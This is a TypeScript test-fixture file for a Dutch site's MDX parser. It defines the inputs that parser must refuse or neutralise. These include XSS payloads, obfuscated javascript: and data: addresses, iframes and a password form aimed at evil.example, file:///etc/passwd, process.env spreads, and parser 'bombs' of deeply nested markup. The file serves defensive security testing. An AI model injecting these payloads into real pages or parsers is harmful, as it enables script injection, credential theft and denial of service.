import type { Way } from '#app/mdx/problem.ts'

/** A hostile text: `§` in the form stands for the payload. Add a line to a list below, and it is tried everywhere. */
export interface Hostile {
  readonly name: string
  readonly text: string
  /** Refused with its place, rendered to something inert, or one of these. */
  readonly expect: 'refused' | 'inert' | 'either'
  readonly ways: readonly Way[]
}

const both: readonly Way[] = ['content', 'member']

/** Where text can stand. */
const places = {
  paragraph: 'Een zin.\n\n§\n',
  'in a sentence': 'Een § zin.',
  'first thing': '§',
  'list item': '- een\n- § twee',
  'ordered list': '1. §',
  quotation: '> § gezegd',
  'table cell': '| a | b |\n|---|---|\n| § | c |',
  heading: '## Kop §',
  'link text': '[§](https://vng.nl)',
  'strong text': '**§ vet**',
  'in a Tip': '<Tip>\n§\n</Tip>',
  'in a Tip on one line': '<Tip>§</Tip>',
  'in a Quote in a Step': '<Step title="a">\n<Quote source="b">\n§\n</Quote>\n</Step>',
  note: 'Zie[^1].\n\n[^1]: §',
}

/** Code and HTML that must be refused wherever text can stand. */
const markup = {
  expression: '{1 + 1}',
  'expression that calls': '{process.exit()}',
  'expression that is no code': '{nog in te vullen}',
  'empty expression': '{}',
  'comment expression': '{/* weg */}',
  'expression with string of braces': "{'}'}",
  'HTML comment': '<!-- weg -->',
  doctype: '<!DOCTYPE html>',
  'processing instruction': '<?php echo 1 ?>',
  CDATA: '<![CDATA[x]]>',
  script: '<script>alert(1)</script>',
  'script with address': '<script src="https://evil.example/x.js"></script>',
  iframe: '<iframe src="https://evil.example"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  form: '<form action="https://evil.example"><input name="wachtwoord" /></form>',
  button: '<button formaction="javascript:alert(1)">x</button>',
  base: '<base href="https://evil.example" />',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  link: '<link rel="stylesheet" href="https://evil.example/x.css" />',
  style: '<style>a</style>',
  svg: '<svg onload="alert(1)"></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  math: '<math><mtext></mtext></math>',
  object: '<object data="https://evil.example"></object>',
  embed: '<embed src="https://evil.example" />',
  video: '<video src="https://evil.example" onerror="alert(1)"></video>',
  img: '<img src="x" onerror="alert(1)" />',
  'link with event': '<a href="#" onclick="alert(1)">x</a>',
  'style attribute': '<p style="position:fixed">x</p>',
  bold: '<b>x</b>',
  'custom element': '<lp-card data-entry="toolbox/x"></lp-card>',
  template: '<template><script>alert(1)</script></template>',
  fragment: '<>x</>',
  'nested fragments': '<><><script>alert(1)</script></></>',
  'member name': '<a.b />',
  'member name of a component': '<Tip.constructor />',
  'namespace name': '<xlink:href />',
  'name of Object': '<constructor />',
  'capital name of Object': '<Object />',
  'unknown component': '<Onbekend />',
  'prototype name': '<__proto__ />',
  'component that is not closed': '<Tip>',
  'closing tag alone': '</Tip>',
  'spread on a component': '<Tip {...process.env} />',
  'spread of nothing': '<Tip {...{}} />',
  'expression as attribute': '<Figure src={"/a.jpg"} alt="a" caption="b" />',
  'template string as attribute': '<Figure src={`/a.jpg`} alt="a" caption="b" />',
  'element as attribute': '<Figure src=<b/> alt="a" caption="b" />',
  'attribute without value': '<Figure src alt="a" caption="b" />',
  'attribute twice': '<Figure src="/a.jpg" src="/b.jpg" alt="a" caption="b" />',
  'attribute without quotes': '<Figure src=/a.jpg alt="a" caption="b" />',
  'event on Tip': '<Tip onClick="alert(1)" />',
  'lower case event on Figure': '<Figure src="/a.jpg" alt="a" caption="b" onerror="alert(1)" />',
  'event on a card': '<ToolCard entry="toolbox/x" onload="alert(1)" />',
  'style on Quote': '<Quote source="a" style="color:red" />',
  'class on Quote': '<Quote source="a" className="skip-link" />',
  'ref on Tip': '<Tip ref="x" />',
  'key on Tip': '<Tip key="x" />',
  'inner HTML on Tip': '<Tip dangerouslySetInnerHTML="x" />',
  'children as attribute': '<Tip children="x" />',
  'empty alt': '<Figure src="/a.jpg" alt="" caption="b" />',
  'blank alt as entities': '<Figure src="/a.jpg" alt="&nbsp;&#32;" caption="b" />',
  'image without alt': '![](/a.jpg)',
  'NUL byte': 'a\u0000b',
  'escape character': 'a\u001bb',
  'bidi override': 'a\u202eb',
  'bidi isolate': 'a\u2066b',
  'bidi override as entity': 'a&#x202e;b',
  'bidi override in code': '`a\u202eb`',
  'bidi override in an attribute': '<Quote source="&#x202e;x">a</Quote>',
  'half a surrogate pair': 'a\ud800b',
}

/** Addresses that must be refused wherever an address can stand. */
const addresses = {
  javascript: 'javascript:alert(1)',
  'javascript in mixed case': 'JaVaScRiPt:alert(1)',
  'decimal entity': '&#106;avascript:alert(1)',
  'decimal entity with zeros': '&#0000106;avascript:alert(1)',
  'hex entity': '&#x6A;avascript:alert(1)',
  'every letter an entity': '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'colon as entity': 'javascript&colon;alert(1)',
  'tab as entity': 'java&Tab;script:alert(1)',
  'line break as entity': 'java&NewLine;script:alert(1)',
  'line break as number': 'java&#10;script:alert(1)',
  'leading blank as entity': '&#32;javascript:alert(1)',
  'leading control as entity': '&#1;javascript:alert(1)',
  'leading control': '\u0001javascript:alert(1)',
  'zero width blank': 'java\u200bscript:alert(1)',
  'soft hyphen': 'java&shy;script:alert(1)',
  'no-break blank': '\u00a0javascript:alert(1)',
  'byte order mark': '\ufeffjavascript:alert(1)',
  'percent-encoded scheme': '%6aavascript:alert(1)',
  'percent-encoded colon': 'javascript%3Aalert(1)',
  'full width colon': 'javascript：alert(1)',
  data: 'data:text/html;base64,PHNjcmlwdD4=',
  'data of an image': 'data:image/svg+xml,x',
  vbscript: 'vbscript:msgbox(1)',
  livescript: 'livescript:x',
  file: 'file:///etc/passwd',
  blob: 'blob:https://evil.example/1',
  'view-source': 'view-source:https://evil.example',
  ftp: 'ftp://evil.example/x',
  feed: 'feed:javascript:alert(1)',
  'no scheme': '//evil.example/x',
  backslash: '/&bsol;evil.example',
  'two backslashes': '&bsol;&bsol;evil.example',
  'no slashes': 'https:evil.example',
  'no host': 'https:///evil.example',
  'name before the host': 'https://www.utrecht.nl@evil.example/',
  'path relative to the page': 'pagina/het-plein',
  'path up': '../../het-plein',
}

/** Where an address can stand. */
const addressPlaces: Readonly<Record<string, readonly [form: string, ways?: readonly Way[]]>> = {
  link: ['Zie [x](§).'],
  'link in angles': ['Zie [x](<§>).'],
  'link with title': ['Zie [x](§ "titel").'],
  'link in a Tip': ['<Tip>Zie [x](§).</Tip>'],
  'link in a table': ['| a |\n|---|\n| [x](§) |'],
  'link in a note': ['Zie[^1].\n\n[^1]: [x](§)'],
  image: ['![alt](§)'],
  'image in a link': ['[![alt](§)](https://vng.nl)'],
  definition: ['Zie [x][y].\n\n[y]: §'],
  'definition nobody uses': ['Zie.\n\n[y]: §'],
  'definition in angles': ['Zie [x][y].\n\n[y]: <§>'],
  'definition of an image': ['![x][y]\n\n[y]: §'],
  'Figure src': ['<Figure src="§" alt="a" caption="b" />'],
  'Figure src in single quotes': ["<Figure src='§' alt='a' caption='b' />"],
  'CaseCard entry': ['<CaseCard entry="§" />'],
  'ToolCard entry': ['<ToolCard entry="§" />'],
  'Video href': ['<Video href="§" title="a" />', ['content']],
}

/** What stands at the start of a line or a text and means more than text. */
const lines = {
  import: 'import fs from "fs"',
  'import for its effects': 'import "./x.js"',
  'import that is no code': 'import van goederen',
  'dynamic import': 'export const x = await import("fs")',
  'export of a constant': 'export const x = process.exit()',
  'export of a function': 'export default function Layout() { return null }',
  're-export': 'export * from "fs"',
  'heading of level 1': '# Titel',
  'skipped level': '#### Te diep',
  'empty heading': '##',
}

const linePlaces = {
  'first line': '§\n\nTekst.',
  'after a paragraph': 'Tekst.\n\n§',
  'between paragraphs': 'Tekst.\n\n§\n\nTekst.',
}

const frontMatters = {
  js: '---js\nprocess.exit()\n---\nTekst.',
  'js after a blank': '--- js\n{}\n---\nTekst.',
  'js after a byte order mark': '\ufeff---js\n{}\n---\nTekst.',
  javascript: '---javascript\n{}\n---\nTekst.',
  json: '---json\n{}\n---\nTekst.',
  coffee: '---coffee\nx\n---\nTekst.',
  yaml: '---yaml\na: 1\n---\nTekst.',
  toml: '+++\na = 1\n+++\nTekst.',
  semicolons: ';;;\n{}\n;;;\nTekst.',
}

/** Texts that look hostile and must come out as harmless text. */
const harmless = {
  'bare javascript address': 'Typ javascript:alert(1) niet.',
  'entities of a tag': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'numeric entities of a tag': '&#60;script&#62;alert(1)&#60;/script&#62;',
  'escaped tag': '\\<script>alert(1)\\</script>',
  'escaped brace': '\\{process.exit()}',
  'tag in code': '`<script>alert(1)</script>` en\n\n```html\n<img src=x onerror=alert(1)>\n```',
  'language of code': '```js"><script>alert(1)</script>\nx\n```',
  'tag in a link title': '[x](https://vng.nl "\\"><script>alert(1)</script>")',
  'tag in an alt': '![a "><script>alert(1)</script>](/a.jpg)',
  'tag in an attribute': '<Quote source="&quot;><script>alert(1)</script>">a</Quote>',
  'expression in a link title': '[x](https://vng.nl "{process.exit()}")',
  'expression in an attribute': '<Quote source="{process.exit()}">a</Quote>',
  'placeholder in an alt': '![&lt;/a>&lt;lp-card data-entry="toolbox/x">&lt;/lp-card>](/a.jpg)',
  'end of a link in an alt in a link': '[a ![&lt;/a>](/a.jpg) b](/toolbox/x)',
  'placeholder in an attribute':
    '<Quote source="&lt;lp-card data-entry=&quot;toolbox/x&quot;>&lt;/lp-card>">a</Quote>',
  'placeholder in text': '&lt;lp-card data-entry="toolbox/x">&lt;/lp-card>',
  'front matter in the middle': 'Tekst.\n\n---js\nprocess.exit()\n---\n\nTekst.',
  'rule first': '---\n\nTekst.',
  'yaml front matter in a body': '---\na: !!js/function "process.exit"\n---\n\nTekst.',
  'import in a quotation': '> import fs from "fs"',
  'export in a list': '- export const x = 1',
  'note named as a property': 'a[^__proto__] b[^constructor]\n\n[^__proto__]: x\n\n[^constructor]: y',
  'definition named as a property': '[x][__proto__] [y][constructor] [toString]',
  'heading named as a property': '## constructor\n\n## __proto__\n\n## __proto__',
  'marks of direction': 'a\u200eb\u200fc',
  'byte order mark': '\ufeffTekst.',
  'only blanks': ' \n\t\n ',
  empty: '',
  'Windows line ends': 'a\r\n\r\n- b\r\n- c\r\n',
  'old Mac line ends': 'a\r\rb',
  'line separators': 'a\u2028b\u2029c',
}

/** Every hostile text that a parser comes back from quickly. */
export const hostileTexts: readonly Hostile[] = [
  ...crossed(places, markup, 'refused'),
  ...crossed(linePlaces, lines, 'refused'),
  ...crossed(
    Object.fromEntries(Object.entries(addressPlaces).map(([name, [form]]) => [name, form])),
    addresses,
    'refused',
  ).map((hostile) => ({ ...hostile, ways: addressPlaces[hostile.name.split(' / ')[0] ?? '']?.[1] ?? both })),
  ...crossed({ 'front matter': '§' }, frontMatters, 'refused'),
  ...crossed({ harmless: '§' }, harmless, 'inert'),
  {
    name: 'Video / of a member',
    text: '<Video href="https://vng.nl" title="a" />',
    expect: 'refused',
    ways: ['member'],
  },
]

/** Texts that take a parser long, or its stack; all within two seconds. */
export const bombs: Readonly<Record<string, { readonly text: string; readonly expect: Hostile['expect'] }>> =
  {
    '10,000 quotes in one another': { text: `${'> '.repeat(10_000)}a`, expect: 'refused' },
    '10,000 lists in one another': { text: `${'- '.repeat(10_000)}a`, expect: 'refused' },
    '10,000 numbered lists': { text: `a\n\n${'1. '.repeat(10_000)}a`, expect: 'refused' },
    'quotes and lists by turns': { text: `${'> - '.repeat(5_000)}a`, expect: 'refused' },
    'quotes and lists without blanks': { text: `${'>'.repeat(50_000)}a`, expect: 'refused' },
    'lists that go deeper line by line': {
      text: Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
      expect: 'refused',
    },
    '10,000 opening brackets': { text: '['.repeat(10_000), expect: 'either' },
    '10,000 image openings': { text: '!['.repeat(10_000), expect: 'either' },
    '10,000 links half open': { text: '[a]('.repeat(10_000), expect: 'either' },
    '10,000 emphases half open': { text: '**a*'.repeat(10_000), expect: 'either' },
    '500 runs of backticks of growing length': {
      text: Array.from({ length: 500 }, (_, length) => '`'.repeat(length)).join(' '),
      expect: 'either',
    },
    '10,000 braces': { text: '{'.repeat(10_000), expect: 'refused' },
    '10,000 closed braces': { text: `${'{'.repeat(10_000)}${'}'.repeat(10_000)}`, expect: 'refused' },
    '10,000 brackets in an expression': {
      text: `{${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
      expect: 'refused',
    },
    '5,000 components in one another': {
      text: `${'<Tip>'.repeat(5_000)}${'</Tip>'.repeat(5_000)}`,
      expect: 'refused',
    },
    '2,000 components on lines': {
      text: `${'<Tip>\n'.repeat(2_000)}a\n${'</Tip>\n'.repeat(2_000)}`,
      expect: 'refused',
    },
    '2,000 fragments': { text: `${'<>'.repeat(2_000)}${'</>'.repeat(2_000)}`, expect: 'refused' },
    'a table of 10,000 columns': {
      text: `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|`,
      expect: 'either',
    },
    '10,000 notes': {
      text: Array.from({ length: 10_000 }, (_, note) => `[^${note}]`).join(''),
      expect: 'either',
    },
    '2,000 notes on one definition': { text: `${'[^a]'.repeat(2_000)}\n\n[^a]: x`, expect: 'either' },
    '10,000 definitions': {
      text: Array.from({ length: 10_000 }, (_, name) => `[${name}]: /x`).join('\n'),
      expect: 'either',
    },
    '10,000 entities': { text: '&#106;'.repeat(10_000), expect: 'either' },
    '10,000 addresses': { text: 'www.a.nl '.repeat(10_000), expect: 'either' },
    '10,000 at signs': { text: 'a@'.repeat(10_000), expect: 'either' },
    'a line of 1 MB': { text: 'a'.repeat(1_000_000), expect: 'refused' },
    'a line of 1 MB of blanks': { text: ' '.repeat(1_000_000), expect: 'refused' },
    'a line of 1 MB of marks': { text: '> '.repeat(500_000), expect: 'refused' },
    'a line as long as it may be': { text: 'woord '.repeat(33_000), expect: 'either' },
    'blanks as long as it may be': { text: `a${' '.repeat(199_990)}b`, expect: 'either' },
    '100,000 NUL bytes': { text: '\u0000'.repeat(100_000), expect: 'refused' },
  }

function crossed(
  forms: Readonly<Record<string, string>>,
  payloads: Readonly<Record<string, string>>,
  expect: Hostile['expect'],
): Hostile[] {
  return Object.entries(forms).flatMap(([place, form]) =>
    Object.entries(payloads).map(([name, payload]) => ({
      name: `${place} / ${name}`,
      text: form.split('§').join(payload),
      expect,
      ways: both,
    })),
  )
}
